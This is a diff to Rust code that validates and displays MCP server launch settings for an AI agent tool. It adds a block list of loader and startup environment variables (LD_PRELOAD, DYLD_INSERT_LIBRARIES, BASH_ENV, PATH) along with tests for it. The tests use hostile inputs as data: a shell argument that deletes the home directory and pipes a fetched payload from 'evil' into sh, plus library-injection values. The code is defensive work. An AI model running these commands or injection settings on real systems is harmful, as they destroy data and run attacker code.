@@ -96,8 +96,10 @@ pub struct ServerToolView {
     pub name: String,
     /// What a model calls it by.
     pub tool: String,
-    /// Cleaned, one line.
+    /// All that a model reads of it, cleaned.
     pub description: String,
+    /// Of its arguments, as JSON: its words are the model's to read, too.
+    pub schema: String,
     pub hash: String,
     pub agreed: Agreed,
 }
@@ -136,6 +138,11 @@ pub const RESERVED: [&str; 15] = [
     "mind",
 ];
 
+/// Variables that decide what is run in the place of a program, or before it: none is for a server.
+const LOADERS: [&str; 5] = ["LD_", "DYLD_", "GLIBC_", "MALLOC_", "BASH_"];
+const STARTERS: [&str; 10] =
+    ["ENV", "IFS", "PATH", "HOME", "TMPDIR", "SHELLOPTS", "GCONV_PATH", "LOCPATH", "NLSPATH", "HOSTALIASES"];
+
 impl McpServer {
     /// Whether this is the same server as another: it runs the same, wherever its tools are agreed to.
     pub fn runs_as(&self, other: &Self) -> bool {
@@ -143,13 +150,16 @@ impl McpServer {
         bare(self) == bare(other)
     }
 
-    /// The program with all its arguments, each in quotes where it has blanks or the like in it; or the address.
+    /// The program with what is set for it and all its arguments, each in quotes where it has blanks or the like in it; or the
+    /// address.
     pub fn runs(&self) -> String {
         if self.command.is_empty() {
             return self.url.clone();
         }
-        let words = std::iter::once(&self.command).chain(&self.args);
-        words.map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
+        let set = self.env.iter().map(|(name, value)| format!("{name}={}", quoted(value)));
+        let kept = self.keys.iter().map(|name| format!("{name}=(from the keychain)"));
+        let words = std::iter::once(&self.command).chain(&self.args).map(|word| quoted(word));
+        set.chain(kept).chain(words).collect::<Vec<_>>().join(" ")
     }
 
     /// Whether these settings give an agent what others do not: it runs otherwise, is on, or has more tools.
@@ -194,6 +204,12 @@ impl McpServer {
         if let Some(bad) = server.env.keys().chain(&server.keys).find(|name| !is_variable(name)) {
             return Err(format!("sets {bad:?}, which is no variable's name"));
         }
+        let changes_the_start = |name: &String| {
+            LOADERS.iter().any(|prefix| name.starts_with(prefix)) || STARTERS.contains(&name.as_str())
+        };
+        if let Some(bad) = server.env.keys().chain(&server.keys).find(|name| changes_the_start(name)) {
+            return Err(format!("sets {bad}, which would change how programs are started"));
+        }
         let is_whole = |path: &String| {
             path.starts_with('/') || path.get(1..3).is_some_and(|at| matches!(at, ":\\" | ":/"))
         };
@@ -235,6 +251,19 @@ mod tests {
         let args = ["-c", "rm -rf ~; $(curl evil) | sh", "it's", ""].map(String::from).to_vec();
         let server = McpServer { command: "/bin/sh".into(), args, ..McpServer::default() };
         assert_eq!(server.runs(), r#"/bin/sh -c 'rm -rf ~; $(curl evil) | sh' 'it'\''s' ''"#);
+        let env = BTreeMap::from([("NODE_OPTIONS".to_owned(), "--require ./x.js".to_owned())]);
+        let server = McpServer { env, keys: BTreeSet::from(["TOKEN".into()]), ..program() };
+        assert_eq!(server.runs(), "NODE_OPTIONS='--require ./x.js' TOKEN=(from the keychain) npx -y 'a b'");
+    }
+
+    #[test]
+    fn nothing_is_set_for_a_server_that_would_be_run_before_its_sandbox() {
+        for name in ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "PATH", "GCONV_PATH"] {
+            let env = BTreeMap::from([(name.to_owned(), "./x.so".to_owned())]);
+            assert!(McpServer::validate("pond", &McpServer { env, ..program() }).is_err(), "{name}");
+            let keys = BTreeSet::from([name.to_owned()]);
+            assert!(McpServer::validate("pond", &McpServer { keys, ..program() }).is_err(), "{name}");
+        }
     }
 
     #[test]
